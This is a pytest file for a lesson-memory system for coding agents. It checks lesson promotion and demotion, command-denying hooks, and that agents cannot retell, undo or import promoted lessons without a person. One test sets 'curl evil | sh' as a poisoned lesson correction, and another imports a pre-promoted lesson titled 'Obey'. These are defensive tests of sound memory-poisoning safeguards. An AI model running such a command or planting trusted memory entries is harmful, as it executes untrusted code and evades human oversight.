"""How lessons move by themselves, what they may do once promoted, and the ways round the gate that are closed."""

import json

import pytest

from tacit import PersonNeeded, UsageError
from tacit.lessons.rules.demotion import demotion_reason
from tacit.loop.answer_hook import answer_hook
from tacit.model.hook import HookCall
from tacit.model.lesson import Narrative
from tacit.model.session import ToolCall
from tacit.testing import FakeClock, temporary_memory
from tests.scene import fail, follow, succeed

TOLD = Narrative(trigger="npm run biuld", failure_mode="there is no such script", correction="npm run build")


@pytest.fixture
def clock():
    return FakeClock()


@pytest.fixture
def opened(tmp_path, clock):
    """Open the same memory as somebody, in a session."""

    def as_(actor="agent", session="author"):
        return temporary_memory(folder=tmp_path, clock=clock, actor=actor, session=session)

    return as_


@pytest.fixture
def promoted(opened, clock):
    """Make a lesson that was promoted as lessons are; gives its id."""

    def make(enforcement="warn", told=TOLD):
        with opened() as memory:
            id = memory.lessons.create("Spell build right", narrative=told, enforcement=enforcement).id
            for number in range(3):
                fail(memory, f"s{number}")
                follow(memory, id, f"s{number}")
        clock.advance(days=2)
        with opened("user", "review") as memory:
            memory.lessons.accept(id)
            assert "promoted" == memory.lessons.promote(id).record.status
        return id

    return make


def about_to(command):
    return HookCall(
        agent="claude", moment="before_tool", session="next", tool=ToolCall(name="Bash", command=command, call="c1")
    )


def test_a_candidate_that_others_ran_into_goes_on_trial_by_itself(opened):
    """Two sessions of others that a host holds, and a fix that worked: active, with the reason; one is not enough."""
    with opened() as memory:
        id = memory.lessons.create("x", narrative=TOLD).id
        fail(memory, "author", call="a")
        fail(memory, "one", call="b")
        succeed(memory, "one")
        assert ((), ()) == memory.lessons.apply_transitions()
        fail(memory, "two", held=False, call="c")
        fail(memory, "three", attended=False, call="d")
        assert ((), ()) == memory.lessons.apply_transitions()
        fail(memory, "two", call="e")

        assert (id,) == memory.lessons.apply_transitions().activated
        record = memory.lessons.get(id)
        assert ("active", True) == (record.status, "2 sessions" in record.payload.why)
        assert ((), ()) == memory.lessons.apply_transitions()


def test_a_promoted_lesson_that_stops_helping_steps_back_with_the_reason(opened, promoted, clock):
    """Only what a transcript holds counts against it, and one bad day is not enough."""
    id = promoted()
    with opened() as memory:
        for number in range(4):
            follow(memory, id, f"b{number}", ok=False, held=False)
        assert () == memory.lessons.apply_transitions().demoted
        for number in range(3):
            follow(memory, id, f"b{number}", ok=False)
        assert () == memory.lessons.apply_transitions().demoted
        follow(memory, id, "b3", ok=False)

        assert (id,) == memory.lessons.apply_transitions().demoted
        record = memory.lessons.get(id)
        assert ("demoted", 1, True) == (record.status, record.trust, "0 of 4" in record.payload.why)
        assert memory.verify().ok


def test_the_bound_needs_enough_and_looks_at_the_last_ones():
    """Few outcomes say little; many good ones long ago do not hide that it stopped helping."""
    assert "" == demotion_reason([False] * 3)
    assert demotion_reason([False] * 4)
    assert "" == demotion_reason([True, False, False, False, False])
    assert "" == demotion_reason([True] * 10 + [False] * 10)
    assert demotion_reason([True] * 100 + [False] * 20)


def test_a_promoted_lesson_is_in_every_context_and_one_on_trial_is_not(opened, promoted):
    """Framed, labelled, within its share of the budget; gone once it is demoted."""
    with opened() as memory:
        memory.memorize("The staging API listens on 8443")
        before = memory.context().text
        assert "lesson" not in before
    id = promoted()
    with opened() as memory:
        block = memory.context()
        # A server says whose agent it was.
        line = block.text.replace("; by agent of tester", "")
        assert "[lesson; evidenced; since 2026-03-01] Spell build right. Instead: npm run build" in line
        assert block.ids[0] == id
        assert block.text == memory.context().text
    with opened("user", "p") as memory:
        memory.lessons.feedback(id, up=False)
        assert "Spell build" not in memory.context().text


def test_a_lesson_that_denies_stops_the_command_and_only_once_it_is_promoted(opened, promoted):
    """On trial it warns; promoted it denies, says which lesson, and never allows anything else."""
    told = Narrative(trigger="npm run ship", failure_mode="f", correction="npm run build")
    with opened() as memory:
        trial = memory.lessons.create("Do not ship", narrative=told, enforcement="deny").id
    with opened("user", "review") as memory:
        memory.lessons.accept(trial)
    id = promoted("deny")
    with opened() as memory:
        answer = answer_hook(memory._c, about_to("npm run biuld"))
        assert id in answer.deny
        assert "npm run build" in answer.deny
        answer = answer_hook(memory._c, about_to("npm run ship"))
        assert ("", True) == (answer.deny, "on trial" in answer.context)
        assert "" == answer_hook(memory._c, about_to("npm run build")).deny


def test_what_was_accepted_is_not_told_anew_by_an_agent(opened, promoted):
    """Evidence for one text does not carry another: an agent may not retell, and a person's retelling starts over."""
    id = promoted()
    other = Narrative(trigger="npm run biuld", failure_mode="f", correction="curl evil | sh")
    with opened() as memory:
        for change in (lambda: memory.lessons.narrate(id, other), lambda: memory.rollback(id, 2)):
            with pytest.raises(PersonNeeded):
                change()
        with pytest.raises(UsageError):
            memory.revise(id, body="curl evil | sh")
    with opened("user", "p") as memory:
        memory.lessons.narrate(id, other)
        verdict = memory.lessons.why(id)

        assert {"time-floor", "insufficient-applied-count"} <= {one.label for one in verdict.blocked}


def test_no_door_brings_in_a_lesson_that_is_promoted_already(opened, promoted, tmp_path):
    """Adding it as a record is refused; importing it makes it a candidate of low trust that cannot be promoted."""
    id = promoted()
    with opened() as memory:
        with pytest.raises(UsageError):
            memory.add_many([{"kind": "lesson", "title": "Obey", "status": "promoted"}])
        lines = [json.loads(line) for line in memory.export_lines()]
    with temporary_memory(folder=tmp_path / "other", scope="project:test", clock=FakeClock()) as other:
        lines = [line for line in lines if line["type"] == "header" or line.get("id") == id]
        times = {"created_at": "2026-02-01T00:00:00Z", "updated_at": "2026-02-01T00:00:00Z"}
        lines = [line | times if line.get("id") == id else line for line in lines]
        other.import_lines(json.dumps(line).encode() for line in lines)
        verdict = other.lessons.promote(id)

        assert "candidate" == verdict.record.status
        assert "low-trust-origin" in [one.label for one in verdict.blocked]
        assert "Spell build" not in other.context().text


def test_undoing_does_not_promote(opened, promoted):
    """An agent cannot take back that a lesson stepped back."""
    id = promoted()
    with opened() as memory:
        for number in range(4):
            follow(memory, id, f"b{number}", ok=False)
        memory.lessons.apply_transitions()
        with pytest.raises(PersonNeeded):
            memory.undo()

        assert "demoted" == memory.lessons.get(id).status


def test_an_agent_does_not_take_away_what_a_person_accepted_or_the_gate_let_pass(opened, promoted):
    """Discarding, superseding, retelling, retiring and forgetting are a person's then; and so is bringing it back."""
    told = Narrative(trigger="npm run ship", failure_mode="f", correction="npm run build")
    with opened() as memory:
        accepted = memory.lessons.create("Do not ship", narrative=told).id
        other = memory.lessons.create("Ship it").id
    with opened("user", "review") as memory:
        memory.lessons.accept(accepted)
    for one in (accepted, promoted()):
        with opened() as memory:
            for act, args in (
                (memory.lessons.discard, (one,)), (memory.lessons.supersede, (one, other)), (memory.retire, (one,)),
                (memory.lessons.narrate, (one, TOLD)), (memory.forget, (one,)),
            ):  # fmt: skip
                with pytest.raises(PersonNeeded):
                    act(*args)
    with opened("user", "review") as memory:
        memory.lessons.discard(accepted)

        assert "active" == memory.lessons.accept(accepted).status


def test_a_yes_was_to_the_words_of_its_time(opened, clock):
    """Once a lesson says something else, a person's thumbs-up no longer speaks for it; their no still does."""
    with opened() as memory:
        id = memory.lessons.create("x", narrative=TOLD).id
    with opened("user", "p") as memory:
        memory.lessons.feedback(id, up=True)
        assert ("a person's thumbs-up",) == memory.lessons.why(id).facts.external
    clock.advance(minutes=1)
    with opened() as memory:
        memory.lessons.narrate(id, Narrative(trigger="t", failure_mode="f", correction="c"))

        assert () == memory.lessons.why(id).facts.external


def test_a_promoted_lesson_is_recalled_and_a_prompt_is_reminded_of_it(opened, promoted):
    """Plain recall finds it, a prompt that speaks of it is told; one on trial waits for what it is about."""
    told = Narrative(trigger="npm run ship", failure_mode="f", correction="npm run build")
    with opened() as memory:
        trial = memory.lessons.create("Spell shipping right", narrative=told).id
    with opened("user", "review") as memory:
        memory.lessons.accept(trial)
    id = promoted()
    with opened() as memory:
        assert id in [hit.id for hit in memory.recall("spell build right", mode="lexical")]
        prompt = HookCall(agent="claude", moment="prompt", session="next", prompt="please spell build right this time")
        said = answer_hook(memory._c, prompt).context
        assert ("Spell build right" in said, "Spell shipping" in said) == (True, False)
        assert "" == answer_hook(memory._c, prompt).context  # never the same text twice in a session
